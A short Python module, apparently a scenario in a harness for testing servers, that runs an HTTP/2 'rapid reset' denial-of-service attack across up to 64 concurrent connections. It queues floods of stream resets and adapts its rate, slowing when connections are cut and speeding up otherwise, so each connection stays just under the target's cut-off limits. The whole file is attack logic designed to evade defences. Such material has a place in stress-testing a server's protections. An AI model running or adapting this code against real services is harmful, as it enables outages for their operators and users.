"""Rapid reset from many connections, each just slow enough not to be cut off."""

import itertools
import time

from rapid_reset import resets, single
from target import Cut

WAYS = ("tls", "crowd")
FLOOR = {"streams": 2000}
CONNECTIONS = 64
EACH_TURN = 4
TICK_S = 0.05
RATE_FIRST, RATE_MIN = 256 << 10, 1 << 10
SLOWER, FASTER = 0.7, 1.1
BYTES_PER_STREAM = 32


def attack(target):
    numbers = itertools.count()
    connections = []
    rate = RATE_FIRST
    turn = 0
    while True:
        target.left()
        began = time.monotonic()
        cut = 0
        # A few more a turn, so that nobody is kept waiting by what can't be had.
        for _ in range(min(EACH_TURN, CONNECTIONS - len(connections))):
            cut += not connect(target, connections, next(numbers))
        for connection in list(connections):
            if not send_some(target, connection, rate):
                connections.remove(connection)
                connection.close()
                target.cut()
                cut += 1
        turn += 1
        if cut:
            rate = max(RATE_MIN, rate * SLOWER)
        elif turn % 10 == 0:
            rate *= FASTER
        time.sleep(max(0.0, min(target.left(), began + TICK_S - time.monotonic())))


def connect(target, connections, number):
    try:
        connection = target.connect(number)
    except Cut:
        target.cut()
        return False
    for _ in range(2):
        connection.queue(single(connection))
    connections.append(connection)
    return True


def send_some(target, connection, rate):
    try:
        connection.discard()
        if connection.queued < rate:
            streams = max(1, int(rate * TICK_S / BYTES_PER_STREAM))
            connection.queue(resets(connection, streams))
            target.count("streams", streams)
        connection.flush()
        return True
    except Cut:
        return False
